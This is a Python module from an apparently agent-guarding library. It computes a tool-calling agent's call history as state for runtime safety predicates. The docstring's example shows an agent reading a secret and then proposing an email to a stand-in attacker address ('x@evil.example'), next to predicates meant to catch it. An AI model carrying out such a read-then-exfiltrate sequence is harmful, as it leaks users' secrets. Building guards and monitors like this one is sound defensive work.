"""The built-in concrete state of a tool-calling agent: its call history (no Python to write).

Pro2Guard abstracts a *concrete state* with predicates (:mod:`agentguard.spec.predicates`). An
embodied agent has a world state; a tool-calling agent (LangChain, the Agents SDK, an MCP client) has
what it did so far. :func:`history_state` builds that state from what every adapter already keeps,
the run's trace (:meth:`~agentguard.core.pipeline.Pipeline.record` appends one step per call with its
decision and result) and the proposed call, so the same state is recorded for learning and computed
again at run time for the guard::

    {"n": 2,                                   # calls decided before this one
     "tools": ["search", "read_secret"],       # the calls that executed, in order
     "refused": [],                            # the calls a guard refused
     "results": ["ok", "ok"],                  # a label per executed call's result: ok | error | empty
     "last": "read_secret",                    # the last executed tool ("" before any)
     "call": {"tool": "send_email",            # the proposed call ("" when the step is not a call)
              "args": {"to": "x@evil.example"},
              "text": "x@evil.example"}}       # its argument values, lower-cased, as one string

Predicates over it are spec expressions: ``'"read_secret" in tools'``, ``'call.tool == "send_email"'``,
``'"@corp.example" not in call.text'``, ``'count(results, it == "error") >= 2'``.

:func:`state_function` names a state function the way configuration does: ``"history"`` (this one)
or ``"package.module:attr"`` (a callable ``(context, proposal) -> state``, imported with
:func:`~agentguard.core.loading.load_callable`: a function annotated to return a mapping, outside the
standard library).
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from typing import Any

from ..core.errors import InputError
from ..core.loading import STATE, load_callable
from ..core.types import Decision, Step, ToolCall

__all__ = ["BUILTIN_STATES", "NO_STATE_HINT", "history_state", "result_label", "state_function"]

#: appended to the learner's error for a step without a state: how to record one
NO_STATE_HINT = ("; the traces were recorded without states: record them with a state function (Python: "
                 "state_fn=agentguard.spec.history.history_state or your own; guard file: state = \"history\" "
                 "under [recording]; agentguard mcp-proxy --state history), see docs/recipe.md")

StateFn = Callable[[Any, Any], Any]

_ERROR = re.compile(r"^\s*(error|exception|traceback|failed|failure)\b", re.IGNORECASE)


def result_label(observation: Any) -> str:
    """``"empty"`` (no result), ``"error"`` (a result that starts with error, exception, traceback,
    failed or failure, or a mapping with an ``error`` key), else ``"ok"``."""
    if observation is None or observation == "" or observation == [] or observation == {}:
        return "empty"
    if isinstance(observation, Mapping):
        return "error" if observation.get("error") or observation.get("isError") else "ok"
    return "error" if _ERROR.match(str(observation)) else "ok"


def _text(args: Mapping[str, Any]) -> str:
    parts = []
    for v in args.values():
        parts.append(v if isinstance(v, str) else json.dumps(v, sort_keys=True, default=str))
    return " ".join(parts).lower()


def _call(proposal: Any) -> dict[str, Any]:
    action = proposal.action if isinstance(proposal, Step) else proposal
    if isinstance(action, ToolCall):
        return {"tool": action.name, "args": dict(action.arguments), "text": _text(action.arguments)}
    return {"tool": "", "args": {}, "text": ""}


def history_state(context: Any, proposal: Any) -> dict[str, Any]:
    """The call-history state of the run in ``context`` before ``proposal`` runs (see the module doc).

    A recorded step counts as executed when its ``decision`` signal is ALLOW (a step without one, as
    a trace of an unguarded run has, counts as executed); any other decision counts as refused."""
    steps = getattr(getattr(context, "trace", None), "steps", None) or []
    tools: list[str] = []
    refused: list[str] = []
    results: list[str] = []
    n = 0
    for s in steps:
        action = getattr(s, "action", None)
        if not isinstance(action, ToolCall):
            continue
        n += 1
        decision = (getattr(s, "signals", None) or {}).get("decision", 0)
        if int(decision) == int(Decision.ALLOW):
            tools.append(action.name)
            results.append(result_label(getattr(s, "observation", None)))
        else:
            refused.append(action.name)
    return {"n": n, "tools": tools, "refused": refused, "results": results,
            "last": tools[-1] if tools else "", "call": _call(proposal)}


#: the state functions configuration can name without Python
BUILTIN_STATES: dict[str, StateFn] = {"history": history_state}


def state_function(name: str | StateFn | None) -> StateFn | None:
    """The state function ``name`` names: None for None or ``""``, a callable as itself, ``"history"``
    (:func:`history_state`), or ``"package.module:attr"``; InputError (one line) otherwise."""
    if name is None or name == "":
        return None
    if callable(name):
        return name
    if not isinstance(name, str):
        raise InputError(f"state function must be 'history' or 'package.module:attr', got {type(name).__name__}")
    if name in BUILTIN_STATES:
        return BUILTIN_STATES[name]
    if ":" not in name:
        raise InputError(f"unknown state function {name!r}: use one of {', '.join(BUILTIN_STATES)} or "
                         "'package.module:attr'")
    fn = load_callable(name, "state function", STATE)  # declared -> a mapping; never os:system
    if not callable(fn):
        raise InputError(f"state function {name!r} is not callable")
    return fn
